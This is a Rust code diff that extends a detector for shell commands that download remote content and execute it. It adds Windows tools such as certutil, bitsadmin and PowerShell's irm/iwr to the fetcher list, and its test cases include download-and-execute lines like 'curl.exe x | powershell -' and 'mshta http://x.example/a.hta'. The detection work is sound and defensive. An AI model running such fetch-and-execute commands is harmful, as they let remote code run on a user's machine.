@@ -12,11 +12,17 @@ use self::origin::Origin;
 /// Programs that fetch something and print it, or write it where they are told.
 const FETCH: &[&str] = &[
     "aria2c",
+    "bitsadmin",
+    "certutil",
     "curl",
     "dig",
     "fetch",
     "get",
     "http",
+    "invoke-restmethod",
+    "invoke-webrequest",
+    "irm",
+    "iwr",
     "lwp-download",
     "lwp-request",
     "lynx",
@@ -129,9 +135,9 @@ fn program_and_rest<'t, 'c>(command: &'c [&'t str]) -> Option<(&'t str, &'c [&'t
         let name = first.rsplit('/').next().unwrap_or_default();
         let options = rest.len() < command.len()
             && (first.starts_with('-') || first.chars().all(|letter| letter.is_ascii_digit()));
-        let prefix = PREFIXES.contains(&name) || assigns(first) || options || *first == "$" || *first == "!";
+        let prefix = PREFIXES.contains(&name) || assigns(first) || options || matches!(*first, "$" | "@" | "!");
         if !prefix {
-            return Some((name, after));
+            return Some((name.strip_suffix(".exe").unwrap_or(name), after));
         }
         rest = after;
     }
@@ -144,6 +150,8 @@ fn reads_program(command: &[&str]) -> bool {
     match program {
         "xargs" => rest.iter().any(|word| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default())),
         program if SHELLS.contains(&program) || program.starts_with("$(which") => !rest.contains(&"-c"),
+        "cmd" => rest.iter().all(|word| matches!(*word, "/q" | "/v:on")),
+        "powershell" | "pwsh" => rest.is_empty() || rest.contains(&"-"),
         program if INTERPRETERS.contains(&program) || program.starts_with("python3.") => rest
             .iter()
             .all(|word| matches!(*word, "-" | "-u" | "-E" | "-I" | "-w") || word.starts_with(['>', '<', '2'])),
@@ -151,28 +159,53 @@ fn reads_program(command: &[&str]) -> bool {
     }
 }
 
-/// Whether what a fetcher prints is put where a command or its script stands: `eval "$(curl …)"`, `bash <(wget …)`.
+/// Whether what a fetcher prints is put where a command or its script stands: `eval "$(curl …)"`, `bash <(wget …)`, or is a
+/// command itself.
 fn puts_fetched(text: &str) -> bool {
-    let opens = ["$(", "`", "<(", "< ("];
+    let opens = ["$(", "`", "<(", "< (", "@("];
     opens.iter().any(|open| {
         text.match_indices(open).any(|(at, _)| {
             let (before, after) = text.split_at_checked(at).unwrap_or_default();
             let inside = after.get(open.len()..).unwrap_or_default();
-            let inner: Vec<&str> = inside.split_whitespace().take(3).collect();
-            let fetches = program(&inner).is_some_and(|program| FETCH.contains(&program));
-            let before = before.trim_end_matches(['"', '\'', ' ', '(']);
-            let mut words = before.rsplit(|letter: char| letter.is_whitespace() || ";|&\"'`".contains(letter));
-            let last = words.next().unwrap_or_default();
-            let name = last.rsplit('/').next().unwrap_or_default();
-            let shell = |word: &str| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default());
-            let runs = matches!(name, "eval" | "source" | "." | "exec")
-                || shell(name) && *open != "$(" && *open != "`"
-                || name.starts_with('-')
-                    && name.ends_with('c')
-                    && words.next().is_some_and(|word| shell(word) || word.contains("python"));
-            fetches && runs
+            prints_fetched(inside) && runs_inside(before, open)
         })
     })
+}
+
+/// Whether what stands in a substitution is the output of a fetcher.
+fn prints_fetched(inside: &str) -> bool {
+    let inner: Vec<&str> = inside.split_whitespace().take(3).collect();
+    program(&inner).is_some_and(|program| {
+        FETCH.contains(&program)
+            || matches!(program, "powershell" | "pwsh" | "cmd")
+                && windows::fetches(inside.split(')').next().unwrap_or_default())
+    })
+}
+
+/// Whether what `open` begins behind `before` is run: as a command, or as the script of one.
+fn runs_inside(before: &str, open: &str) -> bool {
+    let file = open.starts_with('<');
+    let quoted = before.trim_end_matches(['"', '\'', ' ', '(']);
+    let before = if file { quoted.trim_end_matches(['<', ' ']) } else { quoted };
+    let mut words = before.rsplit(|letter: char| letter.is_whitespace() || ";|&\"'`".contains(letter));
+    let last = words.next().unwrap_or_default();
+    let name = last.rsplit('/').next().unwrap_or_default();
+    let shell = |word: &str| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default());
+    let evaluates = |word: &str| {
+        let word = word.rsplit(['/', '\\']).next().unwrap_or_default();
+        let word = word.strip_suffix(".exe").unwrap_or(word);
+        shell(word) || word.contains("python") || matches!(word, "cmd" | "powershell" | "pwsh")
+    };
+    // `@(…)` of PowerShell is a value where it stands alone.
+    if matches!(open, "$(" | "`") && matches!(last, "" | "do" | "then" | "else" | "{") {
+        return true;
+    }
+    let takes = |name: &str| name.starts_with(['-', '/']) && name.ends_with(['c', 'k']) || name == "-command";
+    matches!(name, "eval" | "source" | "." | "exec" | "call" | "start" | "iex" | "invoke-expression")
+        || file
+            && (shell(name)
+                || name.starts_with('-') && words.clone().find(|word| !word.starts_with('-')).is_some_and(shell))
+        || takes(last) && words.next().is_some_and(evaluates)
 }
 
 #[cfg(test)]
@@ -196,6 +229,16 @@ mod tests {
             ". <(curl x)",
             "sh -c \"$(curl x)\"",
             "dig +short txt x.example | sh",
+            "$(curl -s x)",
+            "cd a; $(wget -qo- x)",
+            "for l in a; do $(curl -s x); done",
+            "sh -s < <(curl -s x)",
+            "curl x | cmd",
+            "curl.exe x | powershell -",
+            "cmd /c $(curl.exe -s x)",
+            "cmd /c @(curl.exe -s x)",
+            "start \"\" $(certutil -urlcache -f x a & type a)",
+            "call $(powershell -c \"irm http://x.example\")",
             "mshta http://x.example/a.hta",
         ] {
             assert!(fetches_and_runs(text), "{text}");
@@ -209,6 +252,15 @@ mod tests {
             "version=$(curl -s x); echo $version",
             "echo \"$(curl -s x)\"",
             "bash run.sh $(curl x)",
+            "a=$(curl x) b",
+            "[ \"$(curl x)\" = 1 ]",
+            "curl x | cmd /c more",
+            "curl -o a http://x.example/$(curl y)/b",
+            "@(irm x) | convertto-json",
+            "for l in $(curl x); do echo a; done",
+            "echo a; b=`curl x`",
+            "pip install a==$(curl x)",
+            "set /a n=$(powershell -c get-date)",
         ] {
             assert!(!fetches_and_runs(text), "{text}");
         }
